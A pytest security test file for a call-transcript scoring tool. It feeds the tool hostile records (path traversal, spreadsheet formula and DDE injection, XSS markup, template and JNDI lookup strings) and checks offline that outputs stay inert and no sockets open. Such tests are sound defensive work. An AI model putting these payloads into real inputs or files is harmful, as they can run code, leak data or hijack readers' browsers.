"""Nothing leaves the machine and nothing in a transcript is obeyed: no sockets, no paths, no formulas, no markup."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from qa_nlp.report.writer import known_formats

ROOT = Path(__file__).resolve().parent.parent
# Found by every Python process of the run, workers included. Local sockets are refused as well.
GUARD = """
import os, socket

class Refused(socket.socket):
    def __new__(cls, *args, **kwargs):
        with open(os.environ["SOCKET_LOG"], "a") as file:
            file.write(repr(args) + "\\n")
        raise OSError("no network in this test")

def refuse(*args, **kwargs):
    Refused()

socket.socket = socket.SocketType = Refused
socket.create_connection = socket.getaddrinfo = socket.gethostbyname = socket.socketpair = refuse
"""
EVIL = "../../../evil"
FORMULAS = ('=HYPERLINK("http://x.example","点我")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1")
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'><!--</textarea></script>"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A file of calls whose every field is an attack."""
    path = tmp_path_factory.mktemp("in") / "=calls<b>.jsonl"
    calls = [
        {"call_id": EVIL, "agent_id": "../../a", "team": MARKUP, "turns": _turns(EVIL)},
        {"call_id": MARKUP, "agent_id": MARKUP, "meta": {"caller": MARKUP}, "turns": _turns(MARKUP)},
        *(
            {"call_id": f"{text}{n}", "agent_id": text, "team": text, "turns": _turns(text)}
            for n, text in enumerate(FORMULAS)
        ),
        {"call_id": "/etc/passwd", "turns": _turns("{{7*7}}{% raw %}${jndi:ldap://x.example/a}")},
    ]
    path.write_text("".join(json.dumps(call, ensure_ascii=False) + "\n" for call in calls), encoding="utf-8")
    return path


def _turns(text: str) -> list[dict[str, str]]:
    said = [("agent", "您好"), ("customer", text), ("agent", f"谁让您不早点交电费{text}"), ("agent", text)]
    return [{"role": role, "text": words} for role, words in said]


@pytest.fixture(scope="module")
def scored(hostile: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile calls and the shipped ones, scored without a network in two processes."""
    folder = tmp_path_factory.mktemp("offline")
    (folder / "guard").mkdir()
    (folder / "guard" / "sitecustomize.py").write_text(GUARD, encoding="utf-8")
    environment = os.environ | {"PYTHONPATH": f"{folder / 'guard'}:{ROOT}", "SOCKET_LOG": str(folder / "sockets.log")}
    probe = subprocess.run(
        [sys.executable, "-c", "import socket; socket.socket()"], env=environment, capture_output=True, check=False
    )
    assert probe.returncode != 0, "the guard does not guard"
    (folder / "sockets.log").unlink()
    command = [
        sys.executable, "-m", "qa_nlp", "score", str(hostile), str(ROOT / "data/samples/calls"),
        "-o", str(folder / "out"), "--jobs", "2", "--format", ",".join(known_formats()),
    ]  # fmt: skip
    result = subprocess.run(command, cwd=folder, env=environment, capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stderr
    return folder


def test_no_socket_is_ever_made(scored: Path) -> None:
    assert not (scored / "sockets.log").exists()


def test_nothing_is_written_outside_the_result(scored: Path) -> None:
    assert sorted(path.name for path in scored.iterdir()) == ["guard", "out"]
    assert not list(scored.parent.glob("evil*"))
    assert all(path.resolve().is_relative_to(scored) for path in scored.rglob("*"))


def test_no_cell_starts_a_formula(scored: Path) -> None:
    for path in (scored / "out").glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as file:
            for row in csv.reader(file):
                for cell in row:
                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
                    assert not cell.startswith("-") or cell[1:].replace(".", "").isdecimal(), (path.name, cell)


@pytest.mark.skipif("xlsx" not in known_formats(), reason="no workbook")
def test_no_workbook_cell_is_a_formula_or_a_link_of_the_transcript(scored: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.load_workbook(scored / "out" / "report.xlsx")
    for sheet in book:
        for cell in (cell for row in sheet.iter_rows() for cell in row):
            assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
            assert not cell.hyperlink or not (cell.hyperlink.target or "").startswith("http")


@pytest.mark.skipif("html" not in known_formats(), reason="no page")
def test_the_page_holds_no_foreign_markup_and_loads_nothing(scored: Path) -> None:
    page = "".join(path.read_text(encoding="utf-8") for path in (scored / "out").rglob("*.html"))
    assert "<script>alert" not in page
    assert "<img src=x" not in page
    for remote in ('src="http', "src='http", 'href="http', "@import", "fetch(", "XMLHttpRequest", 'src="//'):
        assert remote not in page, remote


def test_the_spool_and_the_reports_keep_every_call(scored: Path) -> None:
    lines = (scored / "out" / "calls.jsonl").read_text(encoding="utf-8").splitlines()
    ids = [json.loads(line)["call_id"] for line in lines]
    assert EVIL in ids
    assert MARKUP in ids
    assert len(ids) == len(set(ids)) >= 30


def test_the_source_names_no_network_library() -> None:
    wanted = (
        "import socket",
        "import requests",
        "import urllib.request",
        "import http.client",
        "import aiohttp",
        "import ftplib",
    )
    for path in sorted((ROOT / "qa_nlp").rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        assert not [name for name in wanted if name in text], path
